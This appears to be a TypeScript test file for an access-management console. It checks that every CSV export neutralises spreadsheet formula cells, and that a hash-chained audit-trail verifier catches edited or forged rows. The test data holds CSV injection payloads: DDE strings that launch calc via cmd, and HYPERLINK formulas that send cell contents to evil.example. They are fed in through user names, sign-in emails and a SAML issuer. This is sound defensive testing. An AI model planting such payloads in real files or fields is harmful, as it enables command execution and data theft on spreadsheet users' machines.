import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { stringify } from "csv-stringify/sync";
import { parse } from "csv-parse/sync";
import { eq, sql } from "drizzle-orm";
import { beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { getDb } from "@/db/client";
import { accessReviews, type Environment } from "@/db/schema";
import { cookieJar, signInAs } from "@/test-support/console-session";
import { createEnvironments, realMemberCtx, systemCtx } from "@/test-support/fixtures";
import { addGrants } from "@/lib/access/grants";
import { createResource } from "@/lib/access/resources";
import { signInConsoleMember } from "@/lib/auth/console-sign-in";
import { sealAuditTrail, verifyAuditTrail } from "@/lib/audit/chain";
import { recordAudit } from "@/lib/audit/record";
import { addMembers, createGroup } from "@/lib/groups";
import { enqueueJob, saveItems } from "@/lib/jobs";
import { closeAccessReview, createAccessReview, decideReviewItems, getAccessReview } from "@/lib/reviews";
import { handleAcs } from "@/lib/sso/flow";
import { createUser } from "@/lib/users";
import { GET as whoCanUseRoute } from "@/app/console/[env]/access/[resourceId]/who/route";
import { GET as auditRoute } from "@/app/console/[env]/audit/export/route";
import { GET as historyRoute } from "@/app/console/[env]/history/export/route";
import { GET as jobReportRoute } from "@/app/console/[env]/jobs/[jobId]/report/route";
import { GET as membershipsRoute } from "@/app/console/[env]/memberships/export/route";
import { GET as reviewReportRoute } from "@/app/console/[env]/reviews/[reviewId]/report/route";
import { GET as usersRoute } from "@/app/console/[env]/users/export/route";

// CSV injection, export by export: text that begins with = + - @ (or a tab or carriage return)
// reaches every CSV the console writes, and a spreadsheet would run it. Each export must hand it
// over neutralised: prefixed with ' and quoted (lib/domain/csv.ts), while ordinary text stays as it was.

vi.mock("next/headers", () => import("@/test-support/console-session").then((m) => m.nextHeadersMock));

const DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];
const NORMAL = "Ann Lee";

/** For each value: the cell it became, and whether it was quoted with the ' in front. */
function cellsFor(csv: string, values: string[]) {
  const cells = (parse(csv, { relax_column_count: true }) as string[][]).flat();
  return values.map((value) => ({
    value,
    cell: cells.find((c) => c === value || c === `'${value}`) ?? "(missing)",
    quoted: csv.includes(`"'${value.replaceAll('"', '""')}"`),
  }));
}
const neutralised = (values: string[]) => values.map((value) => ({ value, cell: `'${value}`, quoted: true }));

async function csvOf(response: Response): Promise<string> {
  expect([response.status, response.headers.get("content-type")]).toEqual([200, "text/csv; charset=utf-8"]);
  return response.text();
}

let env: { dev: Environment; test: Environment; prod: Environment };
let group: { id: string };
let people: { id: string; email: string }[];
let normal: { id: string; email: string };

/** The exact text, whatever the domain trims on the way in (a leading tab or CR arrives through older rows or a direct write). */
async function forceName(table: "users" | "groups", id: string, name: string) {
  await getDb().execute(sql`update ${sql.identifier(table)} set name = ${name} where id = ${id}`);
}

beforeAll(async () => {
  env = await createEnvironments();
  people = [];
  for (const [i, name] of DANGEROUS.entries()) {
    const user = await createUser(systemCtx, { name, email: `formula${i}@example.com`, environmentIds: [env.dev.id] });
    await forceName("users", user.id, name);
    people.push(user);
  }
  normal = await createUser(systemCtx, { name: NORMAL, email: "ann.lee@example.com", environmentIds: [env.dev.id] });
  // One group per dangerous name; the first holds everyone.
  const groups = [];
  for (const name of DANGEROUS) {
    const g = await createGroup(systemCtx, { environmentId: env.dev.id, name: name.trim() || "placeholder" });
    await forceName("groups", g.id, name);
    groups.push(g);
  }
  group = groups[0]!;
  for (const g of groups) await addMembers(systemCtx, { groupId: g.id, userIds: [...people.map((p) => p.id), normal.id] });
});
beforeEach(async () => {
  cookieJar.clear();
  await signInAs("owner");
});

describe("every CSV export neutralises formula cells", () => {
  it("users", async () => {
    const csv = await csvOf(await usersRoute(new Request("http://localhost/console/dev/users/export"), { params: Promise.resolve({ env: "dev" }) }));
    expect(cellsFor(csv, DANGEROUS)).toEqual(neutralised(DANGEROUS));
    // Ordinary text is untouched: not prefixed, not quoted.
    expect(csv).toContain(`,${NORMAL},`);
    expect(csv).toContain(",ann.lee@example.com,");
  });

  it("memberships", async () => {
    const csv = await csvOf(await membershipsRoute(new Request("http://localhost/console/dev/memberships/export"), { params: Promise.resolve({ env: "dev" }) }));
    expect(cellsFor(csv, DANGEROUS)).toEqual(neutralised(DANGEROUS));
    expect(csv).toContain(`,ann.lee@example.com,${NORMAL},`);
  });

  it("memberships as of a date (history)", async () => {
    const url = `http://localhost/console/dev/history/export?subject=group&group=${group.id}&at=${encodeURIComponent(new Date(Date.now() + 60_000).toISOString())}`;
    const csv = await csvOf(await historyRoute(new Request(url), { params: Promise.resolve({ env: "dev" }) }));
    expect(cellsFor(csv, DANGEROUS)).toEqual(neutralised(DANGEROUS));
    expect(csv).toContain(`,ann.lee@example.com,${NORMAL},`);
  });

  it("who can use a resource", async () => {
    const genie = await createResource(systemCtx, { environmentId: env.dev.id, feature: "agent_studio", name: "Ledger genie" });
    await addGrants(systemCtx, { environmentId: env.dev.id, feature: "agent_studio", resourceId: genie.id, groupIds: [group.id] });
    const csv = await csvOf(await whoCanUseRoute(new Request(`http://localhost/console/dev/access/${genie.id}/who`), { params: Promise.resolve({ env: "dev", resourceId: genie.id }) }));
    expect(cellsFor(csv, DANGEROUS)).toEqual(neutralised(DANGEROUS));
    expect(csv).toContain(`,ann.lee@example.com,${NORMAL},`);
  });

  it("audit trail, with what unauthenticated requests put there (a sign-in email, an unknown SAML issuer)", async () => {
    // Anyone can type these into the sign-in form; the failed attempt is audited with what they typed.
    const typed = ['=HYPERLINK("http://evil.example","Details")', "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0"];
    for (const email of typed) expect(await signInConsoleMember({ email, password: "whatever" })).toEqual({ ok: false, reason: "invalid" });
    // Anyone can post a SAML response naming any issuer; the refusal is audited under that name.
    const issuer = "=HYPERLINK(\"http://evil.example\",\"IdP\")";
    const xml = `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_r1" Version="2.0" IssueInstant="${new Date().toISOString()}"><saml:Issuer>${issuer.replaceAll('"', "&quot;")}</saml:Issuer></samlp:Response>`;
    expect(await handleAcs({ SAMLResponse: Buffer.from(xml).toString("base64"), RelayState: "" })).toMatchObject({ ok: false, check: "issuer" });
    // Labels that begin with a tab or CR (no form keeps them, an audit row written by any door could).
    for (const label of DANGEROUS) await recordAudit(getDb(), { actor: { type: "system", id: null, label }, requestId: "test" }, { action: "test.label", targetType: "test", targetLabel: NORMAL });
    const csv = await csvOf(await auditRoute(new Request("http://localhost/console/dev/audit/export"), { params: Promise.resolve({ env: "dev" }) }));
    expect(cellsFor(csv, [...typed, issuer, ...DANGEROUS])).toEqual(neutralised([...typed, issuer, ...DANGEROUS]));
    expect(csv).toContain(`,${NORMAL},`);
  });

  it("audit trail: a copy checks out away from the database with the head Verify reports (scripts/verify-audit-csv.py), and an edited, forged or unsealed row is caught", async () => {
    for (const label of [DANGEROUS[0]!, NORMAL]) await recordAudit(getDb(), { actor: { type: "system", id: null, label }, requestId: "test" }, { action: "test.copy", targetType: "test", targetLabel: label, after: { n: 1.5, text: "é ✓", enabled: true } });
    // What JavaScript cannot hold exactly, a cell over the csv module's 128 KiB, and times Postgres
    // prints with fewer than six decimals or none.
    await getDb().execute(sql`insert into audit_events (actor_type, actor_label, action, target_type, occurred_at, after) values
      ('system', 'big', 'test.copy_big', 'test', '2026-12-06 10:00:00.5+00', '{"n": 9007199254740993, "x": 1e400, "y": -0.10}'),
      ('system', 'long', 'test.copy_long', 'test', '2026-12-06 10:00:00+00', ${JSON.stringify({ text: "z".repeat(200_000) })}::jsonb)`);
    await recordAudit(getDb(), { actor: { type: "system", id: null, label: NORMAL }, requestId: "test" }, { action: "test.copy_last", targetType: "test", targetLabel: NORMAL });
    await sealAuditTrail();
    const report = await verifyAuditTrail();
    expect(report).toMatchObject({ ok: true, head: { seq: expect.any(Number), hash: expect.stringMatching(/^[0-9a-f]{64}$/) } });
    const exportOf = async (query: string) => csvOf(await auditRoute(new Request(`http://localhost/console/dev/audit/export${query}`), { params: Promise.resolve({ env: "dev" }) }));
    const whole = await exportOf("?environment=all");
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "audit-copy-"));
    const check = (text: string, ...args: string[]) => {
      const file = path.join(dir, "copy.csv");
      fs.writeFileSync(file, text);
      const run = spawnSync("python3", ["scripts/verify-audit-csv.py", file, ...args], { encoding: "utf8" });
      return { status: run.status, out: run.stdout.trim() || run.stderr.trim() };
    };
    const head = `${report.head!.seq}:${report.head!.hash}`;
    const rows = parse(whole) as string[][];
    expect(check(whole, "--head", head)).toEqual({ status: 0, out: `ok: all ${rows.length - 1} events verified and vouched for by the head, positions 1–${report.head!.seq}` });
    // A filtered copy is consistent, and says it is not vouched for.
    expect(check(await exportOf("?environment=all&action=test."))).toMatchObject({ status: 0, out: expect.stringMatching(/^ok: \d+ sealed events consistent \(positions \d+–\d+\), \d+ gaps .*; not vouched for: pass --head SEQ:HASH from Verify$/) });

    const header = rows[0]!;
    const at = (name: string) => header.indexOf(name);
    const victim = rows.findIndex((r) => r[at("action")] === "test.copy" && r[at("actor")] === NORMAL);
    const edited = (edit: (row: string[]) => void) => {
      const copy = rows.map((r) => [...r]);
      edit(copy[victim]!);
      return stringify(copy);
    };
    const { id, seq } = { id: rows[victim]![at("id")], seq: rows[victim]![at("seq")] };
    const sealedAfter = rows[victim]![at("after")]!;
    // A shown column changed, the sealed content left alone.
    expect(check(edited((r) => (r[at("actor")] = "Someone else")))).toEqual({ status: 1, out: `broken: event ${id} (position ${seq}): its actor column says 'Someone else', the sealed content '${NORMAL}'` });
    const oneForTrue = sealedAfter.replace('"enabled": true', '"enabled": 1');
    expect(oneForTrue).not.toBe(sealedAfter);
    expect(check(edited((r) => (r[at("after")] = oneForTrue)))).toEqual({ status: 1, out: `broken: event ${id} (position ${seq}): its after column says '${oneForTrue}', the sealed content '${sealedAfter}'` });
    expect(check(edited((r) => (r[at("occurred_at")] = "2020-01-01T00:00:00.000Z")))).toMatchObject({ status: 1, out: expect.stringMatching(new RegExp(`^broken: event ${id} \\(position ${seq}\\): its occurred_at column says 2020-01-01T00:00:00.000Z, the sealed content 20`)) });
    // The sealed content changed to match.
    expect(check(edited((r) => (r[at("sealed_content")] = r[at("sealed_content")]!.replace(NORMAL, "Someone else"))))).toEqual({ status: 1, out: `broken: event ${id} (position ${seq}): its content does not match its hash (the row was altered)` });
    // Rehashed too: the next event's link gives it away.
    const forged = edited((r) => {
      r[at("sealed_content")] = r[at("sealed_content")]!.replace(NORMAL, "Someone else");
      r[at("actor")] = "Someone else";
      r[at("hash")] = createHash("sha256").update(`${r[at("prev_hash")]}\n${r[at("sealed_content")]}`).digest("hex");
    });
    expect(check(forged, "--head", head)).toMatchObject({ status: 1, out: expect.stringMatching(/^broken: event \d+ \(position \d+\): it does not point to the previous event's hash/) });
    // Or made to look unsealed: consistent, but not vouched for.
    const unsealed = edited((r) => {
      for (const c of ["seq", "hash", "prev_hash", "sealed_content"]) r[at(c)] = "";
      r[at("actor")] = "Someone else";
    });
    expect(check(unsealed, "--head", head)).toEqual({ status: 1, out: `not vouched: event ${id} is not sealed (a forged row would look the same; export again once it is sealed, within seconds)` });
    expect(check("id,action\n1,x\n")).toEqual({ status: 2, out: expect.stringMatching(/^not an audit trail export with its chain: no column occurred_at, seq, hash, prev_hash, sealed_content/) });
    fs.rmSync(dir, { recursive: true });
  });

  it("job reports", async () => {
    const job = await enqueueJob(getDb(), systemCtx, { kind: "import_apply", environmentId: env.dev.id, params: {} });
    // An import echoes each row's email cell back in its report, with why it was refused.
    await saveItems(getDb(), job.id, [
      ...DANGEROUS.map((key, i) => ({ seq: i + 1, key, outcome: "error", detail: DANGEROUS[(i + 1) % DANGEROUS.length]! })),
      { seq: DANGEROUS.length + 1, key: "ann.lee@example.com", outcome: "created", detail: NORMAL },
    ]);
    const csv = await csvOf(await jobReportRoute(new Request(`http://localhost/console/dev/jobs/${job.id}/report`), { params: Promise.resolve({ env: "dev", jobId: job.id }) }));
    expect(cellsFor(csv, DANGEROUS)).toEqual(neutralised(DANGEROUS));
    // Numbers stay numbers (the row number), ordinary text stays as it was.
    expect(csv).toContain(`\n${DANGEROUS.length + 1},ann.lee@example.com,created,${NORMAL}\n`);
  });

  it("access review reports (the signed-off CSV, as hashed at closing)", async () => {
    const owner = await realMemberCtx("owner");
    const reviewer = await realMemberCtx("reviewer");
    const review = await createAccessReview(owner, { environmentId: env.dev.id, name: "Formula review", scope: "groups", scopeIds: [group.id], reviewerIds: [reviewer.actor.id], dueAt: new Date(Date.now() + 86_400_000).toISOString() });
    const items = (await getAccessReview(env.dev.id, review.id))!.items;
    await decideReviewItems(reviewer, { reviewId: review.id, itemIds: items.map((i) => i.id), decision: "keep", comment: "=1+2" });
    await closeAccessReview(owner, review.id);
    const response = await reviewReportRoute(new Request(`http://localhost/console/dev/reviews/${review.id}/report`), { params: Promise.resolve({ env: "dev", reviewId: review.id }) });
    const sha256 = response.headers.get("x-content-sha256");
    const csv = await csvOf(response);
    expect(cellsFor(csv, [...DANGEROUS, "=1+2"])).toEqual(neutralised([...DANGEROUS, "=1+2"]));
    expect(csv).toContain(`,ann.lee@example.com,${NORMAL},`);
    expect(createHash("sha256").update(csv).digest("hex")).toBe(sha256);
    expect(response.headers.get("x-report-reencoded")).toBeNull();
  });

  it("a review report signed off before formulas were neutralised is sent neutralised, and says so", async () => {
    const owner = await realMemberCtx("owner");
    const reviewer = await realMemberCtx("reviewer");
    const review = await createAccessReview(owner, { environmentId: env.dev.id, name: "Old report", scope: "groups", scopeIds: [group.id], reviewerIds: [reviewer.actor.id], dueAt: new Date(Date.now() + 86_400_000).toISOString() });
    await closeAccessReview(owner, review.id);
    // As the old writer stored it: plain CSV, formula cells as typed.
    const old = `user,decision,comment\nann.lee@example.com,keep,"=HYPERLINK(""http://evil.example"")"\n@SUM(1),revoke,+1\n`;
    await getDb().update(accessReviews).set({ reportCsv: old, reportSha256: createHash("sha256").update(old).digest("hex") }).where(eq(accessReviews.id, review.id));
    const response = await reviewReportRoute(new Request(`http://localhost/console/dev/reviews/${review.id}/report`), { params: Promise.resolve({ env: "dev", reviewId: review.id }) });
    const csv = await csvOf(response);
    expect(csv).toBe(`user,decision,comment\nann.lee@example.com,keep,"'=HYPERLINK(""http://evil.example"")"\n"'@SUM(1)",revoke,"'+1"\n`);
    expect(response.headers.get("x-report-reencoded")).toMatch(/neutralised/);
    expect(response.headers.get("x-content-sha256")).toBe(createHash("sha256").update(old).digest("hex"));
  });
});
